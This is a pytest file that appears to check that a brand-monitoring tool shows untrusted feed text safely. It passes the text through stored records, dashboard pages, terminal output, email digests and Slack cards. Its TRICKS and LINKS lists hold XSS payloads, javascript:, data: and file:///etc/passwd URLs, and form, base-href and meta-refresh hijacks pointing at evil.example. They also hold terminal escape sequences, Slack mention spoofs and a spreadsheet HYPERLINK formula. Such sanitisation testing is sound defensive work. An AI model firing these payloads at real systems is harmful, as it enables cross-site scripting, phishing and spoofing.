"""What strangers write is shown as plain words, wherever it is shown.

A feed full of tricks goes through the real pipeline: stored, judged, put on a card, printed
in a terminal, drawn on pages, in the digest and in the account of the incident.
"""

import io
import json
import re
import urllib.request
from contextlib import redirect_stdout
from datetime import UTC, datetime, timedelta
from email import message_from_bytes
from email.policy import default
from email.utils import format_datetime
from html.parser import HTMLParser
from xml.sax.saxutils import escape

import pytest

from listener.cli import cli
from tests.running import Daemon, until
from tests.servers.feed import FeedServer, rss
from tests.servers.slack import SlackServer

CONFIG = """
[listener]
database = "listener.db"
dashboard = "127.0.0.1:0"
[[brand]]
name = "Acme"
[[source]]
name = "forum"
kind = "rss"
url = "{feed}"
every = "5s"
private = true
[[person]]
name = "Anna"
slack = "U0ANNA"
roles = ["spokesperson"]
[slack]
bot_token = "xoxb-test"
channel = "#pr-alerts"
api = "{slack}"
"""
TRICKS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    '"><iframe src="javascript:alert(1)">', "<a href='java&#x09;script:alert(1)'>x</a>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<form action=https://evil.example><input type=password>",
    "<![CDATA[<b onmouseover=alert(1)>x</b>]]>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--<img src=--x>-->",
    "' onfocus=alert(1) autofocus='", "{{ 7 * 7 }}{% raw %}${7*7}", "</title><base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>*{background:url(//evil.example)}</style>",
    "\x1b[2J\x1b]0;owned\x07\x1b[31mred", "\x9b31mred\x9b0m",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\u202egnp.exe\u202c", "\u2066x\u2069\u200f\u061c", "a\u200bb\ufeffc\u2060d\xad",
    "line\u2028para\u2029\x85\r\nend",
    "<!channel> <!here|x> <@U0ANNA> @everyone", "<http://evil.example|https://bank.example>",
    "*b* _i_ `c` ~s~ :tada:",
    "[bold red]markup[/] [link=http://evil.example]x[/link]",
    "=HYPERLINK(\"http://evil.example\")", "\0\ud800\uffff",
)  # fmt: skip
LINKS = (
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,x",
    "file:///etc/passwd",
    "//rel.example/x",
)
UNSEEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\ud800-\udfff\uffff]"
)
NOW = datetime.now(UTC)


def feed_of_tricks():
    """Return a feed in which every trick stands in a title, a text, a name and an id."""
    items = "".join(
        f"<item><guid isPermaLink='false'>t{n} {_xml(trick)}</guid><title>Acme is awful {_xml(trick)}</title>"
        f"<link>{_xml(LINKS[n % len(LINKS)])}</link><author>{_xml(trick)} n{n}</author>"
        f"<description>terrible Acme, I hate it {_xml(trick)}</description>"
        f"<pubDate>{format_datetime(NOW - timedelta(seconds=n))}</pubDate></item>"
        for n, trick in enumerate(TRICKS * 3)
    )
    return f"<rss version='2.0'><channel><title>f</title>{items}</channel></rss>".encode(
        "utf-8", "surrogatepass"
    )


def rows_of_tricks():
    """Yield the tricks as rows of a file to be imported."""
    at = (NOW - timedelta(days=2)).isoformat()
    for n, trick in enumerate(TRICKS):
        words = {"text": f"imported Acme {trick}", "title": trick, "author": trick}
        yield {"id": f"i{n}", "published_at": at, **words}


def _xml(text):
    return escape(text, {'"': "&quot;", "\x1b": "&#27;", "\x07": "&#7;", "\0": "&#0;"})


@pytest.fixture(scope="module")
def shown(tmp_path_factory):
    """Everything that is shown of such a feed: by name, as text; `slack` holds its messages."""
    folder = tmp_path_factory.mktemp("tricks")
    with FeedServer() as feed, SlackServer() as slack:
        (folder / "config.toml").write_text(CONFIG.format(feed=feed.url, slack=slack.api))
        lines = [f"{(NOW - timedelta(minutes=40 * n)).isoformat()},Acme,quiet {n}" for n in range(1, 400)]
        (folder / "past.csv").write_text("\n".join(["published_at,brand,text", *lines]))
        verb(folder, "import", str(folder / "past.csv"))
        (folder / "tricks.ndjson").write_text("\n".join(map(json.dumps, rows_of_tricks())))
        verb(folder, "import", str(folder / "tricks.ndjson"))
        feed.say = (200, {}, rss([("old", "hello", NOW, "", "")]))
        with Daemon(folder) as daemon:
            until(lambda: "INFO listener.daemon listening" in daemon.log or daemon.process.poll() is not None)
            until(lambda: feed.visits, what="a first visit")
            feed.say = (200, {}, feed_of_tricks())
            until(lambda: slack.cards, what="a card")
            found = _pages(daemon) | _verbs(folder)
            assert daemon.stop() == 0
        found["log"] = daemon.log
        found["slack"] = list(slack.messages)
    return found


def _pages(daemon):
    address = re.search(r"address=(http\S+)", daemon.log)[1]
    found = {}
    for path in ("/", "/incidents/1"):
        with urllib.request.urlopen(address + path, timeout=10) as answer:
            found[path] = answer.read().decode()
    return found


def _verbs(folder):
    week = "{}-W{:02}".format(*NOW.isocalendar()[:2])
    asked = {
        "search": ("search", "Acme", "--most", "500"), "incidents": ("incidents",), "show": ("show", "1"),
        "why": ("why", "1"), "sources": ("sources",), "report": ("report", "1"),
    }  # fmt: skip
    found = {name: verb(folder, *arguments) for name, arguments in asked.items()}
    for name in ("week.html", "week.eml"):
        verb(folder, "digest", "--week", week, "--out", str(folder / name))
    verb(folder, "report", "1", "--out", str(folder / "report.html"))
    found["week.html"], found["report.html"] = (
        (folder / f).read_text() for f in ("week.html", "report.html")
    )
    mail = message_from_bytes((folder / "week.eml").read_bytes(), policy=default)
    found["mail.html"] = mail.get_body(("html",)).get_content().replace("\r\n", "\n")
    found["mail.txt"] = mail.get_body(("plain",)).get_content().replace("\r\n", "\n")
    found["json"] = verb(folder, "search", "Acme", "--most", "500", "--json")
    return found


def verb(folder, *arguments):
    """Run a verb; return what it prints."""
    with redirect_stdout(io.StringIO()) as printed:
        cli.main(["--config", str(folder / "config.toml"), *arguments], standalone_mode=False)
    return printed.getvalue()


class Markup(HTMLParser):
    """The elements of a page, each with its attributes."""

    def __init__(self, html):
        super().__init__()
        self.elements = []
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        self.elements.append((tag, {name: value or "" for name, value in attributes}))


PAGES = ("/", "/incidents/1", "week.html", "mail.html", "report.html")


def test_the_tricks_are_heard_and_quoted(shown):
    assert shown["json"].count("awful") >= len(TRICKS)
    assert "awful" in json.dumps(shown["slack"]) or "terrible" in json.dumps(shown["slack"])
    assert "awful" in shown["search"]
    assert shown["search"].count("imported") >= len(TRICKS) - 2
    assert any("Acme is awful" in shown[page] or "terrible Acme" in shown[page] for page in PAGES)


@pytest.mark.parametrize(
    "name", ["search", "incidents", "show", "why", "sources", "report", "mail.txt", "log"]
)
def test_a_terminal_is_sent_words_and_nothing_that_steers_it(shown, name):
    assert shown[name]
    assert not UNSEEN.findall(shown[name])


def test_what_reads_as_json_carries_no_controls_either(shown):
    for line in shown["json"].splitlines():
        row = json.loads(line)
        assert not UNSEEN.findall(" ".join(str(value) for value in row.values()))
        assert row["url"] == "" or row["url"].startswith(("http://", "https://"))


@pytest.mark.parametrize("name", PAGES)
def test_a_page_holds_no_element_of_a_strangers(shown, name):
    assert not UNSEEN.findall(shown[name])
    for tag, attributes in Markup(shown[name]).elements:
        assert tag not in {"script", "iframe", "object", "embed", "base", "input"} or "evil" not in str(
            attributes
        )
        assert tag not in {"iframe", "object", "embed", "base"}
        assert not [attribute for attribute in attributes if attribute.startswith("on")], (tag, attributes)
        for attribute in ("href", "src", "action", "xlink:href", "content"):
            value = attributes.get(attribute, "")
            assert "evil.example" not in value
            assert not re.match(r"\s*(?:javascript|vbscript|data:text|file)", value, re.I), value


def test_slack_pings_nobody_and_makes_up_no_link(shown):
    told = json.dumps(shown["slack"], ensure_ascii=False)
    for trick in ("<!channel", "<!here", "<@U0ANNA> @", "<http://evil", "http://evil.example|"):
        assert trick not in told
    assert not UNSEEN.findall(told.replace("\\u", ""))
    for message in shown["slack"]:
        assert all(block["type"] != "section" or _plain(block) for block in message.get("blocks", []))


def _plain(block):
    text = block.get("text", {})
    return text.get("type") != "mrkdwn" or "evil" not in text.get("text", "")
